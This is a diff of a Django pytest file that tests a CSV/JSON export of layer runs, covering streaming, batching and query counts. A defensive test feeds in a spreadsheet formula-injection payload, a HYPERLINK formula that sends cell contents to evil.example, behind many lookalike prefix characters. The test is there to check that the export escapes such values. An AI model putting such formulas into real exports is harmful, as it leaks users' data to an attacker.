@@ -13,6 +13,8 @@ from django.db import connection
 from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
 
+from layer_runs import export as export_module
+from layer_runs import querysets
 from layer_runs.export import cell
 from layer_runs.models import LayerRun
 from layer_runs.tests.factories import LayerRunFactory
@@ -42,7 +44,7 @@ def export(staff_client):
 def test_it_holds_every_column_of_the_model_in_its_order(staff_client, export):
     LayerRunFactory()
     response = staff_client.get(reverse("layer_runs:export", args=["csv"]))
-    assert next(iter(response.streaming_content)).decode() == ",".join(COLUMNS) + "\r\n"
+    assert list(response.streaming_content)[0].decode() == ",".join(COLUMNS) + "\r\n"
     assert list(export("json")[0]) == COLUMNS
 
 
@@ -108,36 +110,56 @@ def test_it_is_a_download(staff_client, kind, content_type, name):
 
 
 @pytest.mark.parametrize("kind", ["csv", "json"])
-def test_it_is_written_while_the_runs_are_read(staff_client, monkeypatch, kind):
-    LayerRun.objects.bulk_create(LayerRunFactory.build_batch(1_100))
+def test_t17_it_is_written_while_the_runs_are_read(staff_client, monkeypatch, kind):
+    monkeypatch.setattr(querysets, "BATCH", 50)
+    monkeypatch.setattr(export_module, "BATCH", 50)
+    LayerRun.objects.bulk_create(LayerRunFactory.build_batch(230))
     made = []
     from_db = LayerRun.from_db.__func__
     monkeypatch.setattr(LayerRun, "from_db", classmethod(lambda cls, *args: made.append(1) or from_db(cls, *args)))
     response = staff_client.get(reverse("layer_runs:export", args=[kind]))
     assert response.streaming
-    assert made == []
+    # Begun, so that a failure is an answer of its own, and no more.
+    assert len(made) <= 50
     lines = iter(response.streaming_content)
-    next(lines)
-    next(lines)
-    assert 0 < len(made) <= 500
-    assert sum(1 for _line in lines) == 1_100 + (kind == "csv") - 2
-    assert len(made) == 1_100
+    for number in range(1, 231):
+        next(lines)
+        assert number - 1 <= len(made) <= number + 50
+    assert sum(1 for _line in lines) == (kind == "csv")
+    assert len(made) == 230
+
+
+def test_t17_it_keeps_no_query_open_while_its_reader_takes_its_time(staff_client, monkeypatch):
+    monkeypatch.setattr(export_module, "BATCH", 2)
+    runs = [LayerRunFactory(ago=timedelta(minutes=minute)) for minute in range(1, 6)]
+    lines = iter(staff_client.get(reverse("layer_runs:export", args=["json"])).streaming_content)
+    got = [json.loads(next(lines))["id"]]
+    # Neither is one there twice, nor one that was not selected, nor one that is gone.
+    LayerRunFactory(ago=timedelta(minutes=4, seconds=30))
+    LayerRun.objects.filter(pk=runs[3].pk).delete()
+    LayerRun.objects.filter(pk=runs[4].pk).update(started_at=runs[0].started_at)
+    got += [json.loads(line)["id"] for line in lines]
+    assert got == [runs[0].pk, runs[1].pk, runs[2].pk, runs[4].pk]
 
 
 @pytest.mark.parametrize("kind", ["csv", "json"])
-def test_it_costs_as_many_queries_for_a_thousand_runs_as_for_one(export, django_assert_num_queries, kind):
+def test_t17_it_costs_a_query_for_every_few_hundred_runs(export, django_assert_num_queries, kind):
     LayerRunFactory(failing=True)
     with CaptureQueriesContext(connection) as queries:
         export(kind)
-    LayerRun.objects.bulk_create(LayerRunFactory.build_batch(1_000))
-    with django_assert_num_queries(len(queries)):
-        assert len(export(kind)) == 1_001
+    LayerRun.objects.bulk_create(LayerRunFactory.build_batch(querysets.BATCH))
+    with django_assert_num_queries(len(queries) + 1):
+        assert len(export(kind)) == querysets.BATCH + 1
 
 
 # -- what a cell holds
 
 
-@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\n"])
+@pytest.mark.parametrize(
+    "first",
+    [*("=", "+", "-", "@", "\t", "\r", "\n", " =", "\u00a0=", "\ufeff=", "\u200b@", "\u3000-"), *"＝＋－＠", " ＝"],
+    ids=ascii,
+)
 def test_d07_it_lets_no_spreadsheet_take_a_text_for_a_formula(export, first):
     text = f'{first}HYPERLINK("http://evil.example/?"&A1,"x")'
     run = LayerRunFactory(layer_name=text, model_name=text, errors=[{"topic": "t", "error": text, "node": text}])
@@ -150,7 +172,8 @@ def test_d07_it_lets_no_spreadsheet_take_a_text_for_a_formula(export, first):
 
 
 @pytest.mark.parametrize(
-    "text", ["a,b", 'a "quoted" b', "two\nlines", "two\r\nlines", "a;b", "ü 💥 \u202e", "'quoted", "1-2"]
+    "text",
+    ["a,b", 'a "quoted" b', "two\nlines", "two\r\nlines", "a;b", "ü 💥 \u202e", "'quoted", "1-2", " a", "a =1", "ー"],
 )
 def test_it_gives_every_other_text_back_as_it_is(export, text):
     LayerRunFactory(layer_name=text)
@@ -236,7 +259,7 @@ def test_it_holds_no_error_for_those_who_may_not_see_details(export, blind_clien
         ("plain", "plain"),
         ([], "[]"),
         ({"a": "ü"}, '{"a": "ü"}'),
-        ("＝1", "＝1"),
+        ("＝1", "'＝1"),
     ],
 )
 def test_a_cell_is_safe_whatever_its_value(value, expected):
